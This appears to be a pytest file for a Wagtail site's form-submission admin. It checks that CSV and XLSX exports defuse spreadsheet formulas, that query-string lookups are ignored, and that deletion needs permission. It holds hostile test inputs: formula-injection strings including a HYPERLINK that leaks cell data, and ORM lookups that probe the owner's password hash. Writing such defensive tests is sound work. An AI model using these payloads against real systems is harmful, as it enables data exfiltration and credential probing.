"""Wagtail's own submissions list and its export, next to the inbox's.

Wagtail lists one form page's submissions at /admin/forms/submissions/<page_id>/
and exports them as CSV or XLSX: what the public typed must reach a programme
manager's spreadsheet as text, never as a formula, and the list must take no
lookups from the query string.
"""

import io

from django.urls import reverse

import pytest
from openpyxl import load_workbook

from forms.exports import defuse_formula
from forms.models import InterestFormField
from tests.factories import make_registration
from tests.forms.excel_csv import excel_dicts
from tests.forms.test_inbox import INTEREST_FORM

FORMULAS = [
    '=HYPERLINK("http://x","y")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def form(seed_pages):
    return seed_pages[INTEREST_FORM]


def submissions_url(page, **query):
    url = reverse("wagtailforms:list_submissions", args=[page.pk])
    if query:
        url += "?" + "&".join(f"{key}={value}" for key, value in query.items())
    return url


def send_message(form, message, name="Eva Ek"):
    return make_registration(form, name, message=message)


def downloaded(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content)


def csv_rows(response):
    assert response["Content-Type"].startswith("text/csv")
    return excel_dicts(downloaded(response))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(downloaded(response))).active


@pytest.mark.parametrize("answer", FORMULAS)
def test_wagtails_csv_export_does_not_let_an_answer_run_as_a_formula(
    manager_client, form, answer
):
    send_message(form, answer)

    (row,) = csv_rows(manager_client.get(submissions_url(form, export="csv")))

    assert row["Meddelande"] == f"'{answer}"


def test_wagtails_csv_export_leaves_ordinary_answers_alone(manager_client, form):
    send_message(form, "Hej! Ring mig -- gärna = snart.")

    (row,) = csv_rows(manager_client.get(submissions_url(form, export="csv")))

    assert row["Meddelande"] == "Hej! Ring mig -- gärna = snart."
    assert row["Namn"] == "Eva Ek"


def test_wagtails_xlsx_export_stores_formula_like_answers_as_text(manager_client, form):
    for number, answer in enumerate(FORMULAS):
        send_message(form, answer, name=f"Person {number}")

    sheet = xlsx_sheet(manager_client.get(submissions_url(form, export="xlsx")))

    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    column = header.index("Meddelande")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    # XML stores a carriage return as a line feed.
    expected = [answer.replace("\r", "\n") for answer in FORMULAS]
    assert sorted(cell.value for cell in cells) == sorted(expected)
    assert {cell.data_type for cell in cells} == {"s"}


def test_a_field_label_cannot_become_a_formula_in_either_export(manager_client, form):
    """The communicators write the labels, which head the exported columns."""
    label = '=HYPERLINK("http://x?"&A2,"y")'
    InterestFormField.objects.filter(page=form, field_type="multiline").update(
        label=label
    )
    send_message(form, "Hej!")

    (row,) = csv_rows(manager_client.get(submissions_url(form, export="csv")))
    sheet = xlsx_sheet(manager_client.get(submissions_url(form, export="xlsx")))

    assert row[f"'{label}"] == "Hej!"
    headings = list(next(sheet.iter_rows(max_row=1)))
    assert {cell.data_type for cell in headings} == {"s"}
    assert f"'{label}" in [cell.value for cell in headings]


def test_the_inbox_and_wagtails_export_defuse_alike():
    assert [defuse_formula(value) for value in FORMULAS] == [
        f"'{value}" for value in FORMULAS
    ]
    assert defuse_formula("Anna") == "Anna"
    assert defuse_formula(None) is None
    assert defuse_formula(12) == 12


@pytest.mark.parametrize(
    "lookup",
    [
        "id__gt=2147483647",
        "id=0",
        "page__owner__password__regex=^pbkdf2",
        "page__owner__password__startswith=x",
        "page__title__startswith=Ingen",
        "form_data__icontains=finns-inte",
    ],
)
def test_wagtails_submissions_list_ignores_lookups_in_the_query_string(
    manager_client, form, lookup
):
    """A filter that would select nothing leaves the list as it is, so no
    relation (the page owner's password hash, say) can be probed through it."""
    submissions = {send_message(form, "Hej!", name=f"Person {n}").pk for n in (1, 2)}
    list_url = submissions_url(form)

    plain = manager_client.get(list_url)
    probed = manager_client.get(f"{list_url}?{lookup}")
    exported = csv_rows(manager_client.get(f"{list_url}?{lookup}&export=csv"))

    assert {row["model_id"] for row in plain.context["data_rows"]} == submissions
    assert {row["model_id"] for row in probed.context["data_rows"]} == submissions
    assert len(exported) == len(submissions)


def test_wagtails_submissions_list_orders_only_by_its_own_columns(manager_client, form):
    send_message(form, "Hej!", name="Person 1")
    send_message(form, "Hej!", name="Person 2")
    list_url = submissions_url(form)

    plain = manager_client.get(list_url)
    probed = manager_client.get(f"{list_url}?order_by=page__owner__password")

    assert probed.status_code == 200
    assert [row["model_id"] for row in probed.context["data_rows"]] == [
        row["model_id"] for row in plain.context["data_rows"]
    ]


def test_deleting_in_wagtails_own_view_takes_the_delete_permission(
    client, manager_client, django_user_model, seed_pages
):
    """Seeing a form's submissions in Wagtail's list is not leave to delete them."""
    from django.contrib.auth.models import Group, Permission

    from wagtail.models import GroupPagePermission

    from tests.conftest import INTEREST_PATH
    from tests.factories import make_registration

    form = seed_pages[INTEREST_PATH]
    submission = make_registration(form, "Anna Andersson")
    viewers = Group.objects.create(name="Läsare")
    viewers.permissions.add(
        Permission.objects.get(codename="view_interestsubmission"),
        Permission.objects.get(codename="access_admin"),
    )
    GroupPagePermission.objects.create(
        group=viewers,
        page=form,
        permission=Permission.objects.get(codename="change_page"),
    )
    reader = django_user_model.objects.create_user("lasare", password="x")
    reader.groups.add(viewers)
    client.force_login(reader)
    url = (
        f"/admin/forms/submissions/{form.pk}/delete/"
        f"?selected-submissions={submission.pk}"
    )

    assert client.get(f"/admin/forms/submissions/{form.pk}/").status_code == 200
    assert client.post(url).status_code == 403
    assert type(submission).objects.filter(pk=submission.pk).exists()
    assert manager_client.get(url).status_code == 200
